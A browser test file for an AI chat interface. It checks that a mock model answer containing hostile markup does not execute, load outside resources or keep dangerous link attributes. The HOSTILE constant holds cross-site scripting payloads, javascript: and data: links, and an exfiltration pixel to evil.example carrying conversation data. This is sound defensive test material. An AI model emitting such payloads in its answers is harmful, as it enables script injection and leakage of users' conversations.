// What a model says is not to be trusted: nothing of it runs, and nothing of it reaches out.

import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { startModelServer, type ModelServer } from "../../support/model-server.ts";
import { startRuntime, type Runtime } from "../../support/runtime.ts";
import { answered, buildAssets, hasBrowser, say, TALL, transcript, visit } from "./support.ts";

const HOSTILE = `
<script>window.hit = 1; alert(1)</script>
<img src=x onerror="window.hit = 1; alert(1)">
<img src="https://evil.example/pixel.png">
<iframe src="https://evil.example/"></iframe>
<svg onload="window.hit = 1"><animate onbegin="alert(1)"/></svg>
<style>body { background: url(https://evil.example/style) }</style>
<form action="https://evil.example/"><input name="token"><button>Send</button></form>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/">

![pixel](https://evil.example/pixel.png?conversation=secret)
![data](data:text/html,<script>window.hit=1</script>)
![svg](data:image/svg+xml,<svg onload="window.hit=1"/>)

[plain](javascript:window.hit=1) [coded](java&#115;cript:window.hit=1) [spaced](  java\tscript:window.hit=1)
[upper](JaVaScRiPt:window.hit=1) [vb](vbscript:window.hit=1) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[file](file:///etc/passwd) [blob](blob:https://evil.example/x) [protocol-relative](//evil.example/x)
<javascript:window.hit=1>

[reference]: javascript:window.hit=1
[reference]

$$\\href{javascript:window.hit=1}{x}$$ $\\includegraphics{https://evil.example/math.png}$ $\\htmlStyle{background:url(https://evil.example/m)}{x}$

\`\`\`html
<script>window.hit = 1</script>
\`\`\`

\`\`\`mermaid
click A href "javascript:window.hit=1"
\`\`\`

The end.
`;

describe.skipIf(!hasBrowser)("a hostile answer", () => {
  let model: ModelServer;
  let runtime: Runtime;
  beforeAll(async () => {
    await buildAssets();
    model = await startModelServer();
    runtime = await startRuntime({ vars: { OPENAI_BASE_URL: model.url } });
  });
  afterAll(async () => {
    await runtime.stop();
    await model.close();
  });

  test("runs nothing, loads nothing from elsewhere and leaves no address that would", async () => {
    const { page, complaints, close } = await visit(runtime.url, { viewport: TALL });
    const reached: string[] = [];
    const dialogs: string[] = [];
    page.on("request", (request) => reached.push(request.url()));
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await say(page, `Be nasty ${model.act({ triage: { text: HOSTILE, reasoning: HOSTILE } })}`);
    await answered(page);
    await transcript(page).getByText("The end.").waitFor();
    await transcript(page)
      .getByRole("button", { name: /^Thought/ })
      .click();
    await expect.poll(() => transcript(page).getByText("The end.").count()).toBe(2);
    await page.waitForLoadState("networkidle");

    const origin = new URL(runtime.url).origin;
    expect(reached.filter((url) => !url.startsWith(origin) && !url.startsWith("data:image/"))).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => "hit" in window)).toBe(false);
    const addresses = await transcript(page).evaluate((log) =>
      [...log.querySelectorAll("*")].flatMap((element) =>
        [...element.attributes]
          .filter(({ name }) => /href|src|action|formaction|poster|xlink|^on|srcdoc/.test(name))
          .map(({ name, value }) => `${name}=${value}`),
      ),
    );
    expect(addresses.filter((one) => !/^href=(https?:|\/|#|mailto:)/.test(one))).toEqual([]);
    const elements = "script, iframe, form, style, meta, base, object, embed, img[src*='evil']";
    expect(await transcript(page).locator(elements).count()).toBe(0);
    // Words, at least, are shown: what was meant to be hidden in them can be read.
    expect(await transcript(page).innerText()).toContain("window.hit = 1");
    expect(complaints).toEqual([]);
    await close();
  });
});
